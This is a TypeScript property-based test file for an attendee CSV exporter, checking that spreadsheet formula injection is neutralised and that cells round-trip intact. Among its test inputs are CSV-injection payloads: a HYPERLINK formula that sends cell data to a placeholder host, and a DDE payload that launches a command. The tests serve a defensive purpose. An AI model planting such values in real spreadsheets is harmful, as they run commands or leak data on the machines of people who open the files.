// Files for spreadsheets: any name is read as it was written, and never run.

import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cell, row } from "../../../../src/worker/attendees/csv.ts";

/** As RFC 4180 is read: rows of cells. */
function read(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let cells: string[] = [];
  for (let at = 0; at < text.length; ) {
    let value = "";
    if (text[at] === '"') {
      at += 1;
      for (;;) {
        const end = text.indexOf('"', at);
        value += text.slice(at, end);
        at = end + 1;
        if (text[at] !== '"') break;
        value += '"';
        at += 1;
      }
    } else {
      const end = [text.indexOf(separator, at), text.indexOf("\r\n", at)].filter((index) => index >= 0);
      value = text.slice(at, Math.min(...end));
      at = Math.min(...end);
    }
    cells.push(value);
    if (text.startsWith("\r\n", at)) {
      rows.push(cells);
      cells = [];
      at += 2;
    } else at += separator.length;
  }
  return rows;
}

const text = fc.oneof(
  fc.string({ unit: "binary" }),
  fc.string({
    unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", " ", '"', ",", ";", "'", "a", "\u200b", "＝"),
  }),
  fc.constantFrom(
    '=HYPERLINK("http://evil.test?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
  ),
);

describe.each([",", ";"])("separated by %s", (separator) => {
  test("each line is read as the cells that were written", () => {
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1 }), { minLength: 1 }), (lines) => {
        const written = lines.map((cells) => row(cells, separator)).join("");
        const unmarked = (value: string) => (value.startsWith("'") ? value.slice(1) : value);
        const cells = read(written, separator);
        expect(cells.map((one) => one.map(unmarked))).toEqual(lines.map((one) => one.map(unmarked)));
      }),
    );
  });

  test("no cell begins as a formula, with blanks and invisible characters before it, too", () => {
    fc.assert(
      fc.property(text, (value) => {
        const [[shown = ""] = []] = read(row([value], separator), separator);
        expect(shown).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@]/u);
        expect(shown).not.toMatch(/^[\t\r\n]/);
      }),
      { numRuns: 1_000 },
    );
  });
});

test("what is no formula is written as it is, and numbers without quotes", () => {
  expect(row(["Ada “A.” Lovelace", 'She said "a=b"', 4.5, "a@example.test"], ",")).toBe(
    '"Ada “A.” Lovelace","She said ""a=b""",4.5,"a@example.test"\r\n',
  );
  expect(cell("=1")).toBe(`"'=1"`);
});
